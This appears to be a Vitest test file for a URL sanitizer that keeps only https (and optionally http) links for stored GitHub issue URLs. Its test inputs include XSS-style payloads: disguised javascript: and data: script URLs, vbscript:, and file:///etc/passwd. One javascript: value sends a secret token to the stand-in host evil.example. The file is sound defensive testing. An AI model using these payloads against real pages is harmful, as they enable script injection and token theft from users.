import { afterEach, describe, expect, it, vi } from 'vitest';
import { externalUrlSchema, safeExternalUrl } from '@/lib/safe-external-url';

describe('safeExternalUrl: only web URLs are stored and rendered', () => {
  afterEach(() => vi.restoreAllMocks());

  it('keeps https; http only with ALLOW_HTTP_EXTERNAL_URLS=1', () => {
    expect(safeExternalUrl('https://github.com/acme/site/issues/7', undefined, {})).toBe('https://github.com/acme/site/issues/7');
    expect(safeExternalUrl('http://127.0.0.1:4000/acme/site/issues/7', undefined, {})).toBeNull();
    expect(safeExternalUrl('http://127.0.0.1:4000/acme/site/issues/7', undefined, { ALLOW_HTTP_EXTERNAL_URLS: '1' })).toBe('http://127.0.0.1:4000/acme/site/issues/7');
  });

  it('drops javascript:, data:, vbscript:, disguised schemes and non-URLs, even when http is allowed', () => {
    const allow = { ALLOW_HTTP_EXTERNAL_URLS: '1' };
    for (const bad of ['javascript:alert(1)', 'JavaScript:alert(1)', ' javascript:alert(1)', 'java\tscript:alert(1)', '\u0001javascript:alert(1)',
      'data:text/html,<script>alert(1)</script>', 'vbscript:msgbox(1)', 'file:///etc/passwd', '//evil.example/x', '/relative', 'not a url', '']) {
      expect(safeExternalUrl(bad, undefined, allow), JSON.stringify(bad)).toBeNull();
    }
    expect(safeExternalUrl(null)).toBeNull();
    expect(safeExternalUrl(undefined)).toBeNull();
  });

  it('logs a dropped value by its scheme only, never the value; the zod field turns it into null', () => {
    const warn = vi.spyOn(console, 'warn').mockImplementation(() => {});
    const schema = externalUrlSchema('a GitHub issue html_url');
    expect(schema.parse('javascript:fetch("https://evil.example/?t=secret-token")')).toBeNull();
    expect(schema.parse('https://github.com/a/b/issues/1')).toBe('https://github.com/a/b/issues/1');
    expect(warn).toHaveBeenCalledTimes(1);
    expect(warn.mock.calls[0]!.join(' ')).toBe('[integrations] dropped a GitHub issue html_url: scheme javascript: is not allowed');
    expect(() => schema.parse(undefined)).toThrow(); // still a required field of the payload
  });
});
